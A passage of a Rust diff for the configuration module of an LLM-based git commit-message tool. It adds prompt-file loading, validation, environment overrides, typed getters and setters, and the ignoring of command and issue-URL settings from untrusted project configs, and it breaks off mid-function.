+    fn load_prompt_files(&mut self, config_path: &Path) -> Result<()> {
+        let dir = config_path.parent().unwrap_or(Path::new(""));
+        for (key, file, prompt) in [
+            ("system_prompt_file", &self.system_prompt_file, &mut self.system_prompt),
+            ("user_prompt_file", &self.user_prompt_file, &mut self.user_prompt),
+            ("combine_prompt_file", &self.combine_prompt_file, &mut self.combine_system_prompt),
+        ] {
+            let Some(file) = file else {
+                continue;
+            };
+            let path = dir.join(file);
+            let content = fs::read_to_string(&path).map_err(|err| {
+                if err.kind() == std::io::ErrorKind::NotFound {
+                    eyre!("{} {} (set in {}) does not exist", key, path.display(), config_path.display())
+                } else {
+                    eyre!("Failed to read {} {}: {}", key, path.display(), err)
+                }
+            })?;
+            *prompt = Some(content.trim_end().to_string());
+        }
+        Ok(())
+    }
+
+    // Reject loaded values that are present but unusable
+    fn validate(&self) -> Result<()> {
+        parse_non_empty("combine_system_prompt", self.combine_system_prompt.clone())?;
+        parse_non_empty("combine.separator", self.combine.separator.clone())?;
+        for category in self.branch_prefix_map.iter().flat_map(BTreeMap::values) {
+            parse_category("branch_prefix_map", category)?;
+        }
+        for category in self.category_default_scope.iter().flat_map(BTreeMap::keys) {
+            parse_category("category_default_scope", category)?;
+        }
+        for category in self.emote.skip_categories.iter().flatten() {
+            parse_category("emote.skip_categories", category)?;
+        }
+        for category in self.categorize.priority.iter().flatten() {
+            parse_category("categorize.priority", category)?;
+        }
+        if let Some(pattern) = &self.subject.pattern {
+            parse_pattern("subject.pattern", pattern)?;
+        }
+        Ok(())
+    }
+
+    // Layer environment variables (see ENV_OVERRIDES) over the loaded configuration.
+    // Empty values are ignored.
+    fn apply_env_overrides<F>(&mut self, lookup: F) -> Result<()>
+    where
+        F: Fn(&str) -> Option<String>,
+    {
+        for (var, key) in ENV_OVERRIDES {
+            if let Some(value) = lookup(var).filter(|value| !value.trim().is_empty()) {
+                self.set_value(key, Some(value))
+                    .context(format!("Invalid value in environment variable {}", var))?;
+            }
+        }
+        Ok(())
+    }
+
+    // Drop the settings a project config (checked into a repository someone else controls)
+    // may not set, warning about each: they are only read from the global config or --config
+    fn ignore_untrusted_settings(&mut self, config_path: &Path) {
+        let mut ignored = Vec::new();
+        if self.post_generate_command.take().is_some() {
+            ignored.push("post_generate_command");
+        }
+        // The issue tracker request carries the user's GITHUB_TOKEN/GITLAB_TOKEN
+        if self.context.issue_api_url.take().is_some() {
+            ignored.push("context.issue_api_url");
+        }
+        for key in ignored {
+            eprintln!(
+                "{}",
+                format!(
+                    "⚠️  Ignoring {} in the project config {}: it is only read from the global config or --config.",
+                    key,
+                    config_path.display()
+                )
+                .yellow()
+            );
+        }
+    }
+
+    // Normalize the configured api_base_url in place, warning when it had to be changed
+    fn normalize_api_base_url(&mut self) -> Result<()> {
+        if let Some(url) = &self.api_base_url {
+            let normalized = normalize_api_base_url(url)?;
+            if &normalized != url {
+                eprintln!(
+                    "{}",
+                    format!(
+                        "⚠️  api_base_url '{}' was normalized to '{}'. Please update your config.",
+                        url, normalized
+                    )
+                    .yellow()
+                );
+                self.api_base_url = Some(normalized);
+            }
+        }
+        Ok(())
+    }
+
+    pub fn save(&self) -> Result<()> {
+        let config_path = Self::config_path()?;
+
+        let toml_string =
+            toml::to_string_pretty(self).context("Failed to serialize config to TOML")?;
+
+        let mut file = File::create(&config_path).context("Could not create config file")?;
+        file.write_all(toml_string.as_bytes())
+            .context("Failed to write to config file")?;
+        file.flush().context("Failed to flush config file")?; // Ensure data is written to disk
+
+        Ok(())
+    }
+
+    // Set a configuration value by key name
+    #[allow(dead_code)] // Used by CLI command handlers
+    pub fn set(&mut self, key: &str, value: Option<String>) -> Result<()> {
+        self.set_value(key, value)?;
+        self.save()?;
+        Ok(())
+    }
+
+    // Set a configuration value by key name without saving
+    fn set_value(&mut self, key: &str, value: Option<String>) -> Result<()> {
+        match key {
+            "api_token" => self.api_token = value,
+            "api_base_url" => self.api_base_url = value,
+            "model" => self.model = value,
+            "provider" => self.provider = value,
+            "system_prompt" => self.system_prompt = value,
+            "user_prompt" => self.user_prompt = value,
+            "combine_system_prompt" => self.combine_system_prompt = parse_non_empty(key, value)?,
+            "cache_enabled" => self.cache_enabled = parse_optional(key, value)?,
+            "max_body_lines" => self.max_body_lines = parse_optional(key, value)?,
+            "max_subject_length" => self.max_subject_length = parse_optional(key, value)?,
+            "min_message_length" => self.min_message_length = parse_optional(key, value)?,
+            "subject_only" => self.subject_only = parse_optional(key, value)?,
+            "body_style" => self.body_style = parse_optional(key, value)?,
+            "emote_placement" => self.emote_placement = parse_optional(key, value)?,
+            "scope_style" => self.scope_style = parse_optional(key, value)?,
+            "require_conventional" => self.require_conventional = parse_optional(key, value)?,
+            "structured_output" => self.structured_output = parse_optional(key, value)?,
+            "deterministic" => self.deterministic = parse_optional(key, value)?,
+            "max_api_calls" => self.max_api_calls = parse_optional(key, value)?,
+            "min_request_interval_ms" => self.min_request_interval_ms = parse_optional(key, value)?,
+            "http2_only" => self.http2_only = parse_optional(key, value)?,
+            "pool_idle_timeout_secs" => self.pool_idle_timeout_secs = parse_optional(key, value)?,
+            "ca_cert_path" => self.ca_cert_path = parse_non_empty(key, value)?.map(PathBuf::from),
+            "system_prompt_file" => self.system_prompt_file = parse_non_empty(key, value)?.map(PathBuf::from),
+            "user_prompt_file" => self.user_prompt_file = parse_non_empty(key, value)?.map(PathBuf::from),
+            "combine_prompt_file" => self.combine_prompt_file = parse_non_empty(key, value)?.map(PathBuf::from),
+            "branch_prefix_map" => {
+                self.branch_prefix_map = value.as_deref().map(parse_branch_prefix_map).transpose()?
+            }
+            "category_default_scope" => {
+                self.category_default_scope = value.as_deref().map(parse_category_default_scope).transpose()?
+            }
+            "post_generate_command" => self.post_generate_command = value,
+            "github_token" => self.github_token = value,
+            "gitlab_token" => self.gitlab_token = value,
+            "filter.enabled" => self.filter.enabled = parse_optional(key, value)?,
+            "filter.patterns" => self.filter.patterns = value.as_deref().map(parse_list),
+            "filter.disabled_patterns" => {
+                self.filter.disabled_patterns = value.as_deref().map(parse_list)
+            }
+            "filter.strip_leading_reasoning" => {
+                self.filter.strip_leading_reasoning = parse_optional(key, value)?
+            }
+            "push.set_upstream" => self.push.set_upstream = parse_optional(key, value)?,
+            "push.remote" => self.push.remote = value,
+            "push.remotes" => self.push.remotes = value.as_deref().map(parse_list),
+            "prompt.include_numstat" => self.prompt.include_numstat = parse_optional(key, value)?,
+            "prompt.category_hint" => self.prompt.category_hint = parse_optional(key, value)?,
+            "prompt.include_file_list" => self.prompt.include_file_list = parse_optional(key, value)?,
+            "emote.replace_type_prefix" => {
+                self.emote.replace_type_prefix = parse_optional(key, value)?
+            }
+            "emote.skip_categories" => {
+                let categories = value.as_deref().map(parse_list);
+                for category in categories.iter().flatten() {
+                    parse_category(key, category)?;
+                }
+                self.emote.skip_categories = categories;
+            }
+            "emote.prepend_after_emote" => {
+                self.emote.prepend_after_emote = parse_optional(key, value)?
+            }
+            "emote.multi" => self.emote.multi = parse_optional(key, value)?,
+            "emote.max_emotes" => self.emote.max_emotes = parse_optional(key, value)?,
+            "emote.style" => self.emote.style = parse_optional(key, value)?,
+            "subject.pattern" => {
+                if let Some(pattern) = &value {
+                    parse_pattern(key, pattern)?;
+                }
+                self.subject.pattern = value
+            }
+            "conventional.allowed_types" => {
+                self.conventional.allowed_types = value.as_deref().map(parse_list)
+            }
+            "context.fetch_issue" => self.context.fetch_issue = parse_optional(key, value)?,
+            "context.issue_api_url" => self.context.issue_api_url = value,
+            "context.include_branch" => self.context.include_branch = parse_optional(key, value)?,
+            "context.include_remote" => self.context.include_remote = parse_optional(key, value)?,
+            "context.include_blame" => self.context.include_blame = parse_optional(key, value)?,
+            "categorize.mode" => self.categorize.mode = parse_optional(key, value)?,
+            "categorize.priority" => {
+                let categories = value.as_deref().map(parse_list);
+                for category in categories.iter().flatten() {
+                    parse_category(key, category)?;
+                }
+                self.categorize.priority = categories;
+            }
+            "body.append_stats" => self.body.append_stats = parse_optional(key, value)?,
+            "message.trailing_newline" => self.message.trailing_newline = parse_optional(key, value)?,
+            "commit.signoff" => self.commit.signoff = parse_optional(key, value)?,
+            "trailers.commit_type" => self.trailers.commit_type = parse_optional(key, value)?,
+            "combine.strategy" => self.combine.strategy = parse_optional(key, value)?,
+            "combine.include_files" => self.combine.include_files = parse_optional(key, value)?,
+            "combine.separator" => self.combine.separator = parse_non_empty(key, value)?,
+            "pricing.input_per_million" => {
+                self.pricing.input_per_million = parse_optional(key, value)?
+            }
+            "pricing.output_per_million" => {
+                self.pricing.output_per_million = parse_optional(key, value)?
+            }
+            _ => return Err(eyre!("Unknown configuration key: {}", key)),
+        }
+        Ok(())
+    }
+
+    // Get a configuration value by key name
+    #[allow(dead_code)] // Used by CLI command handlers
+    pub fn get(&self, key: &str) -> Option<String> {
+        match key {
+            "api_token" => self.api_token.clone(),
+            "api_base_url" => self.api_base_url.clone(),
+            "model" => self.model.clone(),
+            "provider" => self.provider.clone(),
+            "system_prompt" => self.system_prompt.clone(),
+            "user_prompt" => self.user_prompt.clone(),
+            "combine_system_prompt" => self.combine_system_prompt.clone(),
+            "cache_enabled" => self.cache_enabled.map(|v| v.to_string()),
+            "max_body_lines" => self.max_body_lines.map(|v| v.to_string()),
+            "max_subject_length" => self.max_subject_length.map(|v| v.to_string()),
+            "min_message_length" => self.min_message_length.map(|v| v.to_string()),
+            "subject_only" => self.subject_only.map(|v| v.to_string()),
+            "body_style" => self.body_style.map(|v| v.to_string()),
+            "emote_placement" => self.emote_placement.map(|v| v.to_string()),
+            "scope_style" => self.scope_style.map(|v| v.to_string()),
+            "require_conventional" => self.require_conventional.map(|v| v.to_string()),
+            "structured_output" => self.structured_output.map(|v| v.to_string()),
+            "deterministic" => self.deterministic.map(|v| v.to_string()),
+            "max_api_calls" => self.max_api_calls.map(|v| v.to_string()),
+            "min_request_interval_ms" => self.min_request_interval_ms.map(|v| v.to_string()),
+            "http2_only" => self.http2_only.map(|v| v.to_string()),
+            "pool_idle_timeout_secs" => self.pool_idle_timeout_secs.map(|v| v.to_string()),
+            "ca_cert_path" => self.ca_cert_path.as_ref().map(|v| v.display().to_string()),
+            "system_prompt_file" => self.system_prompt_file.as_ref().map(|v| v.display().to_string()),
+            "user_prompt_file" => self.user_prompt_file.as_ref().map(|v| v.display().to_string()),
+            "combine_prompt_file" => self.combine_prompt_file.as_ref().map(|v| v.display().to_string()),
+            "branch_prefix_map" => self.branch_prefix_map.as_ref().map(|map| {
+                map.iter()
+                    .map(|(prefix, category)| format!("{}={}", prefix, category))
+                    .collect::<Vec<_>>()
+                    .join(", ")
+            }),
+            "category_default_scope" => self.category_default_scope.as_ref().map(|map| {
+                map.iter()
+                    .map(|(category, scope)| format!("{}={}", category, scope))
+                    .collect::<Vec<_>>()
+                    .join(", ")
+            }),
+            "post_generate_command" => self.post_generate_command.clone(),
+            "github_token" => self.github_token.clone(),
+            "gitlab_token" => self.gitlab_token.clone(),
+            "filter.enabled" => self.filter.enabled.map(|v| v.to_string()),
+            "filter.patterns" => self.filter.patterns.as_ref().map(|v| v.join(", ")),
+            "filter.disabled_patterns" => {
+                self.filter.disabled_patterns.as_ref().map(|v| v.join(", "))
+            }
+            "filter.strip_leading_reasoning" => {
+                self.filter.strip_leading_reasoning.map(|v| v.to_string())
+            }
+            "push.set_upstream" => self.push.set_upstream.map(|v| v.to_string()),
+            "push.remote" => self.push.remote.clone(),
+            "push.remotes" => self.push.remotes.as_ref().map(|v| v.join(", ")),
+            "prompt.include_numstat" => self.prompt.include_numstat.map(|v| v.to_string()),
+            "prompt.category_hint" => self.prompt.category_hint.map(|v| v.to_string()),
+            "prompt.include_file_list" => self.prompt.include_file_list.map(|v| v.to_string()),
+            "emote.replace_type_prefix" => self.emote.replace_type_prefix.map(|v| v.to_string()),
+            "emote.skip_categories" => self.emote.skip_categories.as_ref().map(|v| v.join(", ")),
+            "emote.prepend_after_emote" => self.emote.prepend_after_emote.map(|v| v.to_string()),
+            "emote.multi" => self.emote.multi.map(|v| v.to_string()),
+            "emote.max_emotes" => self.emote.max_emotes.map(|v| v.to_string()),
+            "emote.style" => self.emote.style.map(|v| v.to_string()),
+            "subject.pattern" => self.subject.pattern.clone(),
+            "conventional.allowed_types" => {
+                self.conventional.allowed_types.as_ref().map(|v| v.join(", "))
+            }
+            "context.fetch_issue" => self.context.fetch_issue.map(|v| v.to_string()),
+            "context.issue_api_url" => self.context.issue_api_url.clone(),
+            "context.include_branch" => self.context.include_branch.map(|v| v.to_string()),
+            "context.include_remote" => self.context.include_remote.map(|v| v.to_string()),
+            "context.include_blame" => self.context.include_blame.map(|v| v.to_string()),
+            "categorize.mode" => self.categorize.mode.map(|v| v.to_string()),
+            "categorize.priority" => self.categorize.priority.as_ref().map(|v| v.join(", ")),
+            "body.append_stats" => self.body.append_stats.map(|v| v.to_string()),
+            "message.trailing_newline" => self.message.trailing_newline.map(|v| v.to_string()),
+            "commit.signoff" => self.commit.signoff.map(|v| v.to_string()),
+            "trailers.commit_type" => self.trailers.commit_type.map(|v| v.to_string()),
+            "combine.strategy" => self.combine.strategy.map(|v| v.to_string()),
+            "combine.include_files" => self.combine.include_files.map(|v| v.to_string()),
+            "combine.separator" => self.combine.separator.clone(),
+            "pricing.input_per_million" => self.pricing.input_per_million.map(|v| v.to_string()),
+            "pricing.output_per_million" => self.pricing.output_per_million.map(|v| v.to_string()),
+            _ => None,
+        }
+    }
+
+    pub fn get_api_token(&self) -> Result<&String> {
+        self.api_token.as_ref().context(
+            "API token not found. Please set it using 'git-narrator config set api_token YOUR_TOKEN'",
+        )
+    }
+
+    /// Whether requests need an API token; local providers work without one
+    pub fn requires_api_token(&self) -> bool {
+        self.get_provider_preset()
+            .is_none_or(|preset| preset.requires_api_token)
+    }
+
+    /// API base URL: the configured one, else the provider preset's, else OpenAI
+    pub fn get_api_base_url(&self) -> &str {
+        self.api_base_url
+            .as_deref()
+            .or_else(|| self.get_provider_preset().and_then(|preset| preset.api_base_url))
+            .unwrap_or(DEFAULT_API_BASE_URL)
+    }
+
+    /// Model: the configured one, else the provider preset's default, else `gpt-3.5-turbo`
+    pub fn get_model(&self) -> &str {
+        self.model
+            .as_deref()
+            .or_else(|| self.get_provider_preset().and_then(|preset| preset.default_model))
+            .unwrap_or(DEFAULT_MODEL)
+    }
+
+    /// Whether the API can be asked which models it serves; assumed for unknown providers,
+    /// which are treated as OpenAI-compatible
+    pub fn lists_models(&self) -> bool {
+        self.get_provider_preset()
+            .is_none_or(|preset| preset.lists_models)
+    }
+
+    pub fn get_provider(&self) -> Option<&str> {
+        self.provider.as_deref()
+    }
+
+    /// Whether messages are written offline by the mock provider instead of a model
+    pub fn is_offline(&self) -> bool {
+        self.get_provider_preset()
+            .is_some_and(|preset| preset.name == MOCK_PROVIDER)
+    }
+
+    /// Preset of the configured provider, `None` for unknown names
+    pub fn get_provider_preset(&self) -> Option<&'static ProviderPreset> {
+        let provider = self.get_provider()?.trim();
+        PROVIDER_PRESETS
+            .iter()
+            .find(|preset| preset.name.eq_ignore_ascii_case(provider))
+    }
+
+    /// How the API token is sent
+    pub fn get_auth_scheme(&self) -> AuthScheme {
+        self.get_provider_preset()
+            .map_or(AuthScheme::default(), |preset| preset.auth)
+    }
+
+    /// Request timeout, `None` waiting indefinitely
+    pub fn get_request_timeout(&self) -> Option<Duration> {
+        self.get_provider_preset().and_then(|preset| preset.timeout)
+    }
+
+    pub fn get_system_prompt(&self) -> &str {
+        self.system_prompt
+            .as_deref()
+            .unwrap_or(DEFAULT_SYSTEM_PROMPT)
+    }
+
+    pub fn get_user_prompt(&self) -> &str {
+        self.user_prompt.as_deref().unwrap_or(DEFAULT_USER_PROMPT)
+    }
+
+    /// System prompt for combining the messages of a split diff, `None` meaning the
+    /// generation system prompt
+    pub fn get_combine_system_prompt(&self) -> Option<&str> {
+        self.combine_system_prompt.as_deref()
+    }
+
+    pub fn get_cache_enabled(&self) -> bool {
+        self.cache_enabled.unwrap_or(false)
+    }
+
+    /// Maximum number of non-empty body lines, `None` meaning unlimited
+    pub fn get_max_body_lines(&self) -> Option<usize> {
+        self.max_body_lines
+    }
+
+    /// Longest subject line a message may have before it is committed, `None` meaning unlimited
+    pub fn get_max_subject_length(&self) -> Option<usize> {
+        self.max_subject_length.map(NonZeroUsize::get)
+    }
+
+    /// Shortest message, in characters without the emote, accepted from the model (0 disables
+    /// the check)
+    pub fn get_min_message_length(&self) -> usize {
+        self.min_message_length.unwrap_or(DEFAULT_MIN_MESSAGE_LENGTH)
+    }
+
+    /// Whether to generate only a subject line, without a body
+    pub fn get_subject_only(&self) -> bool {
+        self.subject_only.unwrap_or(false)
+    }
+
+    /// Required body style, `None` leaving the body as the model wrote it
+    pub fn get_body_style(&self) -> Option<BodyStyle> {
+        self.body_style
+    }
+
+    /// How the messages of a split diff are combined
+    pub fn get_combine_strategy(&self) -> CombineStrategy {
+        self.combine.strategy.unwrap_or_default()
+    }
+
+    /// Whether the combined message of a split diff ends with a "Files changed:" section
+    pub fn get_combine_include_files(&self) -> bool {
+        self.combine.include_files.unwrap_or(false)
+    }
+
+    /// Line put before each message in the combine prompt, `{n}` being its number
+    pub fn get_combine_separator(&self) -> &str {
+        self.combine
+            .separator
+            .as_deref()
+            .unwrap_or(llm::DEFAULT_COMBINE_SEPARATOR)
+    }
+
+    /// Whether to add a `Signed-off-by` trailer to the message
+    pub fn get_signoff(&self) -> bool {
+        self.commit.signoff.unwrap_or(false)
+    }
+
+    /// Whether to add a `Commit-Type` trailer naming the message's category
+    pub fn get_commit_type_trailer(&self) -> bool {
+        self.trailers.commit_type.unwrap_or(false)
+    }
+
+    /// Prices used to estimate the cost of API calls
+    pub fn get_pricing(&self) -> &PricingConfig {
+        &self.pricing
+    }
+
+    /// Whether to end the body with the staged changes' diff stat line
+    pub fn get_append_stats(&self) -> bool {
+        self.body.append_stats.unwrap_or(false)
+    }
+
+    /// Whether the finished message ends with a newline, like git writes it
+    pub fn get_trailing_newline(&self) -> bool {
+        self.message.trailing_newline.unwrap_or(true)
+    }
+
+    /// Where the emote goes in the subject line
+    pub fn get_emote_placement(&self) -> EmotePlacement {
+        self.emote_placement.unwrap_or_default()
+    }
+
+    /// How the scope of a conventional subject is written
+    pub fn get_scope_style(&self) -> ScopeStyle {
+        self.scope_style.unwrap_or_default()
+    }
+
+    /// Categories preferred when a message's keywords match several, highest first
+    pub fn get_category_priority(&self) -> Vec<CommitCategory> {
+        self.categorize
+            .priority
+            .iter()
+            .flatten()
+            .filter_map(|category| category.parse().ok())
+            .collect()
+    }
+
+    /// How messages are categorized for the emote
+    pub fn get_categorize_mode(&self) -> CategorizeMode {
+        self.categorize.mode.unwrap_or_default()
+    }
+
+    /// How the emote is chosen and placed
+    pub fn get_emote_options(&self) -> EmoteOptions {
+        EmoteOptions {
+            placement: self.get_emote_placement(),
+            categorize_mode: self.get_categorize_mode(),
+            category_priority: self.get_category_priority(),
+            prior: None,
+            skip_categories: self
+                .emote
+                .skip_categories
+                .iter()
+                .flatten()
+                .filter_map(|category| category.parse().ok())
+                .collect(),
+            style: self.get_emote_style(),
+        }
+    }
+
+    /// Whether to drop the conventional `type:` prefix once an emote is added
+    pub fn get_replace_type_prefix(&self) -> bool {
+        self.emote.replace_type_prefix.unwrap_or(false)
+    }
+
+    /// The conventional types a subject may use, `None` allowing any
+    pub fn get_allowed_types(&self) -> Option<&[String]> {
+        self.conventional
+            .allowed_types
+            .as_deref()
+            .filter(|types| !types.is_empty())
+    }
+
+    /// The regular expression the subject must match, `None` allowing any subject
+    pub fn get_subject_pattern(&self) -> Option<Regex> {
+        // Validated when the config is loaded or set
+        self.subject.pattern.as_deref().and_then(|pattern| Regex::new(pattern).ok())
+    }
+
+    /// One emote per message, or one per category across the parts of a split diff
+    pub fn get_emote_multi(&self) -> EmoteMulti {
+        self.emote.multi.unwrap_or_default()
+    }
+
+    /// Whether categories are marked with emoji or ASCII tags, `Auto` resolved from the locale
+    pub fn get_emote_style(&self) -> EmoteStyle {
+        self.emote.style.unwrap_or_default().resolve()
+    }
+
+    /// Most emotes a `prefix_all` message gets
+    pub fn get_max_emotes(&self) -> usize {
+        self.emote.max_emotes.unwrap_or(DEFAULT_MAX_EMOTES)
+    }
 
-        // No project config found
-        Ok(None)
+    /// Whether `--prepend` text goes after the emote rather than at the very start
+    pub fn get_prepend_after_emote(&self) -> bool {
+        self.emote.prepend_after_emote.unwrap_or(false)
     }
 
-    // Load a config from a TOML file (now works for both global and project config)
-    fn load_toml_config(path: &PathBuf) -> Result<Self> {
-        let mut file = File::open(path).context("Could not open TOML config file")?;
-        let mut contents = String::new();
-        file.read_to_string(&mut contents)
-            .context("Could not read TOML config file")?;
+    /// Whether generated messages must be conventional commits
+    pub fn get_require_conventional(&self) -> bool {
+        self.require_conventional.unwrap_or(false)
+    }
 
-        let config: Config =
-            toml::from_str(&contents).context("Failed to parse TOML config file")?;
-        Ok(config)
+    /// Whether to request JSON output (`response_format`) from the model
+    pub fn get_structured_output(&self) -> bool {
+        self.structured_output.unwrap_or(false)
     }
 
-    // Load the global config from TOML
-    fn load_global_config() -> Result<Self> {
-        let config_path = Self::config_path()?;
+    /// Whether to request reproducible output (temperature 0, top_p 1, fixed seed)
+    pub fn get_deterministic(&self) -> bool {
+        self.deterministic.unwrap_or(false)
+    }
 
-        if !config_path.exists() {
-            let default_config = Self::default();
-            default_config.save()?;
-            return Ok(default_config);
-        }
+    /// Most API calls a run may make, `None` meaning unlimited
+    pub fn get_max_api_calls(&self) -> Option<usize> {
+        self.max_api_calls.map(NonZeroUsize::get)
+    }
 
-        Self::load_toml_config(&config_path)
+    /// Least time between the starts of two API requests, `None` meaning no pacing
+    pub fn get_min_request_interval(&self) -> Option<Duration> {
+        self.min_request_interval_ms
+            .filter(|&ms| ms > 0)
+            .map(Duration::from_millis)
     }
 
-    // Merge two configs, with the override_config taking precedence
-    fn merge(base: Self, override_config: Self) -> Self {
-        Self {
-            api_token: override_config.api_token.or(base.api_token),
-            api_base_url: override_config.api_base_url.or(base.api_base_url),
-            model: override_config.model.or(base.model),
-            system_prompt: override_config.system_prompt.or(base.system_prompt),
-            user_prompt: override_config.user_prompt.or(base.user_prompt),
-        }
+    /// Whether API requests use HTTP/2 without negotiating it first
+    pub fn get_http2_only(&self) -> bool {
+        self.http2_only.unwrap_or(false)
     }
 
-    pub fn load() -> Result<Self> {
-        // First load the global config
-        let global_config = Self::load_global_config()?;
+    /// How long idle API connections are kept for reuse, `None` for the HTTP client's default
+    pub fn get_pool_idle_timeout(&self) -> Option<Duration> {
+        self.pool_idle_timeout_secs.map(Duration::from_secs)
+    }
 
-        // Try to find and load project config
-        if let Some(project_config_path) = Self::find_project_config()? {
-            // If project config exists, load it and merge with global config
-            let project_config = Self::load_toml_config(&project_config_path)?;
+    /// Branch prefixes and the categories they imply: `branch_prefix_map`, or the gitflow
+    /// defaults when it isn't set
+    pub fn get_branch_prefix_map(&self) -> BTreeMap<String, String> {
+        self.branch_prefix_map.clone().unwrap_or_else(|| {
+            DEFAULT_BRANCH_PREFIXES
+                .iter()
+                .map(|(prefix, category)| (prefix.to_string(), category.to_string()))
+                .collect()
+        })
+    }
 
-            // Merge configs, with project config taking precedence
-            Ok(Self::merge(global_config, project_config))
-        } else {
-            // No project config, just use global config
-            Ok(global_config)
-        }
+    /// The scope for conventional subjects of `category` that have none, from
+    /// `category_default_scope`
+    pub fn get_category_default_scope(&self, category: &CommitCategory) -> Option<&str> {
+        self.category_default_scope
+            .iter()
+            .flatten()
+            .find(|(name, _)| name.parse::<CommitCategory>().is_ok_and(|parsed| &parsed == category))
+            .map(|(_, scope)| scope.as_str())
     }
 
-    pub fn save(&self) -> Result<()> {
-        let config_path = Self::config_path()?;
+    /// The category a branch's prefix (the part before the first `/`) implies
+    pub fn get_branch_category(&self, branch: &str) -> Option<CommitCategory> {
+        let (prefix, _) = branch.split_once('/')?;
+        self.get_branch_prefix_map()
+            .get(&prefix.to_lowercase())?
+            .parse()
+            .ok()
+    }
 
-        let toml_string =
-            toml::to_string_pretty(self).context("Failed to serialize config to TOML")?;
+    /// Shell command the final message is piped through before committing
+    pub fn get_post_generate_command(&self) -> Option<&str> {
+        self.post_generate_command
+            .as_deref()
+            .filter(|command| !command.trim().is_empty())
+    }
 
-        let mut file = File::create(&config_path).context("Could not create config file")?;
-        file.write_all(toml_string.as_bytes())
-            .context("Failed to write to config file")?;
-        file.flush().context("Failed to flush config file")?; // Ensure data is written to disk
+    /// Whether to include per-file insertion/deletion counts in the prompt
+    pub fn get_include_numstat(&self) -> bool {
+        self.prompt.include_numstat.unwrap_or(false)
+    }
 
-        Ok(())
+    /// Whether to list all changed files in the prompt; by default only for diffs too large
+    /// to be sent whole, which are split or truncated
+    pub fn get_include_file_list(&self, large_diff: bool) -> bool {
+        self.prompt.include_file_list.unwrap_or(large_diff)
     }
 
-    // Set a configuration value by key name
-    #[allow(dead_code)] // Used by CLI command handlers
-    pub fn set(&mut self, key: &str, value: Option<String>) -> Result<()> {
-        match key {
-            "api_token" => self.api_token = value,
-            "api_base_url" => self.api_base_url = value,
-            "model" => self.model = value,
-            "system_prompt" => self.system_prompt = value,
-            "user_prompt" => self.user_prompt = value,
-            _ => return Err(eyre!("Unknown configuration key: {}", key)),
-        }
+    /// Whether to suggest the commit type inferred from the changed paths
+    pub fn get_category_hint(&self) -> bool {
+        self.prompt.category_hint.unwrap_or(false)
+    }
 
-        self.save()?;
-        Ok(())
+    /// Whether to add the issue referenced in the branch name to the prompt
+    pub fn get_fetch_issue(&self) -> bool {
+        self.context.fetch_issue.unwrap_or(false)
     }
 
-    // Get a configuration value by key name
-    #[allow(dead_code)] // Used by CLI command handlers
-    pub fn get(&self, key: &str) -> Option<&String> {
-        match key {
-            "api_token" => self.api_token.as_ref(),
-            "api_base_url" => self.api_base_url.as_ref(),
-            "model" => self.model.as_ref(),
-            "system_prompt" => self.system_prompt.as_ref(),
-            "user_prompt" => self.user_prompt.as_ref(),
-            _ => None,
-        }
+    /// Whether to add the current branch name to the prompt
+    pub fn get_include_branch(&self) -> bool {
+        self.context.include_branch.unwrap_or(false)
     }
 
-    pub fn get_api_token(&self) -> Result<&String> {
-        self.api_token.as_ref().context(
-            "API token not found. Please set it using 'git-narrator config set api_token YOUR_TOKEN'",
-        )
+    /// Whether to add the origin URL to the prompt
+    pub fn get_include_remote(&self) -> bool {
+        self.context.include_remote.unwrap_or(false)
     }
 
-    pub fn get_api_base_url(&self) -> &str {
-        self.api_base_url
+    /// Whether to add who last touched the changed lines to the prompt
+    pub fn get_include_blame(&self) -> bool {
+        self.context.include_blame.unwrap_or(false)
+    }
+
+    /// Issue tracker API URL, `None` meaning the tracker's default
+    pub fn get_issue_api_url(&self) -> Option<&str> {
+        self.context
+            .issue_api_url
             .as_deref()
-            .unwrap_or("https://api.openai.com")
+            .filter(|url| !url.trim().is_empty())
     }
 
-    pub fn get_model(&self) -> &str {
-        self.model.as_deref().unwrap_or("gpt-3.5-turbo")
+    /// Token for fetching issues from GitHub
+    pub fn get_github_token(&self) -> Option<&str> {
+        self.github_token.as_deref().filter(|token| !token.trim().is_empty())
     }
 
-    pub fn get_system_prompt(&self) -> &str {
-        self.system_prompt
-            .as_deref()
-            .unwrap_or(DEFAULT_SYSTEM_PROMPT)
+    /// Token for fetching issues from GitLab
+    pub fn get_gitlab_token(&self) -> Option<&str> {
+        self.gitlab_token.as_deref().filter(|token| !token.trim().is_empty())
     }
 
-    pub fn get_user_prompt(&self) -> &str {
-        self.user_prompt.as_deref().unwrap_or(DEFAULT_USER_PROMPT)
+    /// How to push the current branch
+    pub fn get_push_options(&self) -> PushOptions {
+        PushOptions {
+            remote: self.push.remote.clone().filter(|remote| !remote.trim().is_empty()),
+            set_upstream: self.push.set_upstream.unwrap_or(true),
+            remotes: self.push.remotes.clone().unwrap_or_default(),
+        }
     }
+
+    /// Line filter for model output: the built-in patterns minus the disabled ones, plus
+    /// any additional patterns
+    pub fn get_line_filter(&self) -> LineFilter {
+        let normalize = |pattern: &String| pattern.trim().to_lowercase();
+        let disabled: Vec<String> = self
+            .filter
+            .disabled_patterns
+            .iter()
+            .flatten()
+            .map(normalize)
+            .collect();
+
+        let mut patterns: Vec<String> = DEFAULT_FILTER_PATTERNS
+            .iter()
+            .map(|pattern| pattern.to_string())
+            .filter(|pattern| !disabled.contains(pattern))
+            .collect();
+        for pattern in self.filter.patterns.iter().flatten().map(normalize) {
+            if !pattern.is_empty() && !patterns.contains(&pattern) {
+                patterns.push(pattern);
+            }
+        }
+
+        LineFilter {
+            enabled: self.filter.enabled.unwrap_or(true),
+            patterns,
+            strip_leading_reasoning: self.filter.strip_leading_reasoning.unwrap_or(false),
+        }
+    }
+}
+
+// Parse an optional string value from `config set` into a typed value
+fn parse_optional<T: std::str::FromStr>(key: &str, value: Option<String>) -> Result<Option<T>> {
+    value
+        .map(|v| {
+            v.trim()
+                .parse::<T>()
+                .map_err(|_| eyre!("Invalid value for {}: {}", key, v))
+        })
+        .transpose()
+}
+
+// Parse a commit category name, e.g. "hotfix" or "feat"
+fn parse_category(key: &str, value: &str) -> Result<CommitCategory> {
+    value
+        .parse()
+        .map_err(|err| eyre!("Invalid value for {}: {}", key, err))
+}
+
+fn parse_pattern(key: &str, value: &str) -> Result<Regex> {
+    Regex::new(value).map_err(|err| eyre!("Invalid value for {}: {}", key, err))
+}
+
+// Parse a `prefix=category, ...` list, e.g. "feature=feat, hotfix=hotfix"
+fn parse_branch_prefix_map(value: &str) -> Result<BTreeMap<String, String>> {
+    parse_list(value)
+        .iter()
+        .map(|entry| {
+            let (prefix, category) = entry
+                .split_once('=')
